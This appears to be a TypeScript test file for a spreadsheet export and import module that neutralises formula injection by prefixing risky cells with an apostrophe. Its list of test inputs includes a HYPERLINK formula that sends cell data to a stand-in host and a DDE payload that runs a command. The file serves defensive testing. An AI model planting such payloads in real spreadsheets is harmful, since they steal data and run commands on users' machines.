import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import ExcelJS from 'exceljs';

import { readCsv, readXlsx } from './sheet-reader';
import { looksLikeFormula, readSheetText, sheetCell, sheetRow } from './sheet-text';

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTab đầu',
];

describe('sheetCell', () => {
  it('marks text a spreadsheet would run as a formula, and nothing else', () => {
    // A carriage return too (XML would read it back as a line feed, so it is not in the round trips).
    for (const text of [...DANGEROUS, '\r=1+1']) {
      expect(looksLikeFormula(text)).toBe(true);
      expect(sheetCell(text)).toBe(`'${text}`);
    }
    for (const text of ['Sở Nội vụ', 'Phường 1', '-3', '+84', '1.5', "l'an", '— chưa có', ''])
      expect(sheetCell(text)).toBe(text);
    expect(sheetRow([42, null, -7, '=A1'])).toEqual([42, null, -7, "'=A1"]);
  });

  it('is undone by the reader, once and only before a formula sign', () => {
    for (const text of DANGEROUS) expect(readSheetText(sheetCell(text) as string)).toBe(text);
    expect(readSheetText("'Tên có nháy")).toBe("'Tên có nháy");
    expect(readSheetText("''=1")).toBe("''=1");
  });

  it('lands as plain text in a workbook, which reads back to the same names', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Đơn vị');
    sheet.addRow(['Tên đơn vị']);
    for (const text of DANGEROUS) sheet.addRow(sheetRow([text]));
    const file = Buffer.from(await book.xlsx.writeBuffer());

    const loaded = new ExcelJS.Workbook();
    await loaded.xlsx.load(file as unknown as ArrayBuffer);
    const cells = DANGEROUS.map((_, i) => loaded.worksheets[0].getCell(i + 2, 1));
    expect(cells.map((c) => c.type)).toEqual(DANGEROUS.map(() => ExcelJS.ValueType.String));
    expect(cells.every((c) => String(c.value).startsWith("'"))).toBe(true);

    const read = await readXlsx(file);
    expect(read.problems).toEqual([]);
    expect(read.rows.map((r) => r.cells[0])).toEqual(DANGEROUS);
  });

  it('keeps the streaming writer (exports) from writing a formula, whatever the cell type it picks', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'sheet-text-'));
    try {
      const file = join(dir, 'export.xlsx');
      const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: file, useStyles: true });
      const ws = writer.addWorksheet('Xếp hạng');
      ws.columns = [{ header: sheetCell('Tên bài') as string, width: 30 }];
      for (const text of DANGEROUS) ws.addRow(sheetRow([text])).commit();
      ws.commit();
      await writer.commit();

      const loaded = new ExcelJS.Workbook();
      await loaded.xlsx.load((await readFile(file)) as unknown as ArrayBuffer);
      const values = DANGEROUS.map((_, i) => loaded.worksheets[0].getCell(i + 2, 1));
      expect(values.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
      expect(values.map((c) => c.value)).toEqual(DANGEROUS.map((t) => `'${t}`));
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('reads an apostrophe-marked CSV cell back as text, and still reports a real formula', () => {
    const read = readCsv(Buffer.from("Họ và tên,Email\r\n'=1+1,a@b.vn\r\n=SUM(A1:A2),c@d.vn\r\n"));
    expect(read.rows[0].cells[0]).toBe('=1+1');
    expect(read.problems.map((p) => [p.row, p.code])).toEqual([[3, 'csv_formula']]);
  });
});
